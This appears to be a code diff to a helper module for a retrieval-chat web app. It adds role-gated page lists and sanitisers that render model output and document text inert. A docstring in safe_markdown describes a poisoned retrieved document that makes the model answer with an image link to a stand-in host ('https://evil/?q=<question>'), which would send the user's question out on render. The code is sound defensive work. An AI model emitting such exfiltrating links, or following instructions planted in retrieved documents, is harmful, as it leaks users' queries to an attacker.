@@ -10,6 +10,7 @@ from __future__ import annotations
 import html
 import re
 from collections.abc import Iterable, Sequence
+from dataclasses import dataclass
 from typing import Any
 
 from services.common.api_schemas import HitInfo, IngestResponse, JobInfo, ModelCard
@@ -75,8 +76,9 @@ def hit_card_html(
     highlighted: bool,
     snippet_chars: int = 180,
 ) -> str:
-    """One ranked chunk as an HTML card (text escaped): rank, arrow, score, source, text."""
-    text = hit.text
+    """One ranked chunk as an HTML card (text escaped, on one line): rank, arrow, score,
+    source, text."""
+    text = " ".join(hit.text.split())
     snippet = text[:snippet_chars] + ("…" if len(text) > snippet_chars else "")
     bg = color or "transparent"
     border = "3px solid #dc2626" if highlighted else "1px solid rgba(128,128,128,.35)"
@@ -87,13 +89,13 @@ def hit_card_html(
         else ""
     )
     return (
-        f'<div class="ts-hit" data-chunk="{html.escape(hit.id)}" '
+        f'<div class="ts-hit" data-chunk="{html_text(hit.id)}" '
         f'style="background:{bg};{fg}border:{border};border-radius:8px;'
         f'padding:6px 10px;margin-bottom:8px">'
         f'<div style="display:flex;justify-content:space-between;gap:8px">'
-        f"<b>#{hit.rank} {html.escape(hit_label(hit))}</b>"
+        f"<b>#{hit.rank} {html_text(hit_label(hit))}</b>"
         f"<span>{arrow} <code>{hit.score:.3f}</code></span></div>"
-        f'<div style="font-size:.88em;line-height:1.35">{html.escape(snippet)}</div></div>'
+        f'<div style="font-size:.88em;line-height:1.35">{html_text(snippet)}</div></div>'
     )
 
 
@@ -181,3 +183,130 @@ def quoted_chunk(text: str) -> str:
     inline emphasis and wrapping.
     """
     return _BLOCK_MARKUP.sub(lambda m: m.group(1) + "\\" + m.group(2), text)
+
+
+# ---- who sees which page ---------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class Page:
+    path: str
+    title: str
+    icon: str
+    admin: bool  # ingests, deletes, reindexes, deploys or uploads: the API needs an admin key
+
+
+PAGES = (
+    Page("views/chat.py", "Chat", ":material/chat:", admin=False),
+    Page("views/compare.py", "Compare retrieval", ":material/compare_arrows:", admin=False),
+    Page("views/evaluate.py", "Evaluate", ":material/analytics:", admin=True),
+    Page("views/models.py", "Models", ":material/model_training:", admin=True),
+    Page("views/documents.py", "Documents", ":material/folder_open:", admin=True),
+)
+
+
+def pages_for(role: str) -> list[Page]:
+    """The pages a role may open: admin all, anyone else the asking pages only."""
+    return [p for p in PAGES if role == "admin" or not p.admin]
+
+
+# ---- text from the API, shown inert -----------------------------------------------------
+
+# What can format, link, embed or start HTML anywhere in a line; `(` and `.` only matter
+# after a `]` or at the start of a line, and hyphens in names stay readable in test output.
+_MD_INLINE = re.compile(r"([\\`*_~\[\]<>!|$&#])")
+_MD_LINE_START = re.compile(r"^(\s*)([-+=]|\d+(?=[.)]))")
+# A fence opens a code block only at column 0 here: deeper ones may sit inside a list item,
+# whose end (not the closing fence) ends them, so treating them as prose is the safe side.
+_FENCE_OPEN = re.compile(r"(?:(`{3,})[^`]*|(~{3,}).*)$")
+_FENCE_CLOSE = re.compile(r" {0,3}(`{3,}|~{3,})[ \t]*$")
+_UNESCAPED = r"(?<!\\)((?:\\\\)*)"  # an even run of backslashes: what follows is live
+_LIVE_LT = re.compile(_UNESCAPED + r"<")
+_LIVE_LINK_END = re.compile(_UNESCAPED + r"\](?=[(\[:])")
+_LABEL = r"((?:[^\[\]\n]|\[[^\[\]\n]*\])*)"  # link text, one level of brackets inside
+# (url "title"): the URL (one level of parentheses inside) and an optional title
+_DEST = (
+    r"\(\s*<?([^()\s<>]*(?:\([^()\s]*\)[^()\s<>]*)*)>?"
+    r"(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*\)"
+)
+_HTML_IMG = re.compile(r"<img\b[^>]*>", re.IGNORECASE)
+_HTML_ALT = re.compile(r"""\balt\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))""", re.IGNORECASE)
+_IMAGE = re.compile(r"!\[" + _LABEL + r"\](?:" + _DEST + r"|\[[^\[\]\n]*\])?")
+_LINK = re.compile(r"\[" + _LABEL + r"\]" + _DEST)
+_REF_LINK = re.compile(r"\[" + _LABEL + r"\]\[([^\[\]\n]*)\]")
+_REF_DEF = re.compile(r"^ {0,3}\[([^\[\]\n]+)\]:[ \t]*<?([^\s>]+)>?", re.MULTILINE)
+
+
+def md_escape(name: str) -> str:
+    """A name from the API (collection, model, file) for any element that renders Markdown:
+    shown literally, so `**x**` or `[a](b)` in a name neither formats nor links."""
+    flat = _MD_INLINE.sub(r"\\\1", re.sub(r"[\r\n]+", " ", str(name)))
+    return _MD_LINE_START.sub(lambda m: m.group(1) + _escape_marker(m.group(2)), flat)
+
+
+def _escape_marker(marker: str) -> str:
+    """`-` -> `\\-`; `12` (of `12.`) -> `12\\` so the `.` that follows is literal."""
+    return marker + "\\" if marker.isdigit() else "\\" + marker
+
+
+def _html_image(m: re.Match[str]) -> str:
+    alt = _HTML_ALT.search(m.group(0))
+    return f"[image: {next((g for g in alt.groups() if g is not None), '')}]" if alt else "[image]"
+
+
+def _ref_link(m: re.Match[str], refs: dict[str, str]) -> str:
+    """`[label][ref]` with its definition's URL; undefined (`[1][2]` citations) left alone."""
+    url = refs.get((m.group(2) or m.group(1)).lower())
+    return f"{m.group(1)} ({url})" if url else m.group(0)
+
+
+def _inert(prose: str) -> str:
+    """Markdown without code blocks, made unable to fetch or link: images become
+    `[image: alt]`, links `label (url)`; then every `<` (raw HTML, autolinks) and every `]`
+    that could still close a link, image or link definition is backslash-escaped. The
+    rewrites are for reading; the escaping alone is what makes the text safe."""
+    refs = {k.lower(): v for k, v in _REF_DEF.findall(prose)}
+    text = _HTML_IMG.sub(_html_image, prose)
+    text = _IMAGE.sub(lambda m: f"[image: {m.group(1)}]", text)
+    text = _LINK.sub(lambda m: f"{m.group(1)} ({m.group(2)})", text)
+    text = _REF_LINK.sub(lambda m: _ref_link(m, refs), text)
+    text = _LIVE_LT.sub(r"\1\\<", text)
+    return _LIVE_LINK_END.sub(r"\1\\]", text)
+
+
+def safe_markdown(text: str) -> str:
+    """Model output or chunk text for st.markdown that loads nothing and links nowhere.
+
+    A poisoned document can make the model answer `![x](https://evil/?q=<question>)`: the
+    browser would fetch it on render, sending the question away. Fenced code blocks are kept
+    as they are (nothing in them renders); everything else goes through _inert.
+    """
+    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
+    out: list[str] = []
+    prose: list[str] = []
+    fence = ""
+    for line in lines:
+        if fence:
+            out.append(line)
+            close = _FENCE_CLOSE.match(line)
+            if close and close.group(1)[0] == fence[0] and len(close.group(1)) >= len(fence):
+                fence = ""
+            continue
+        opened = _FENCE_OPEN.match(line)
+        if opened:
+            if prose:
+                out.append(_inert("\n".join(prose)))
+                prose = []
+            fence = opened.group(1) or opened.group(2)
+            out.append(line)
+        else:
+            prose.append(line)
+    if prose:
+        out.append(_inert("\n".join(prose)))
+    return "\n".join(out)
+
+
+def html_text(text: str) -> str:
+    """Text for a card inside st.markdown(..., unsafe_allow_html=True): HTML-escaped and on
+    one line, as a blank line would end the HTML block and let Markdown (images) resume."""
+    return html.escape(" ".join(text.split()))
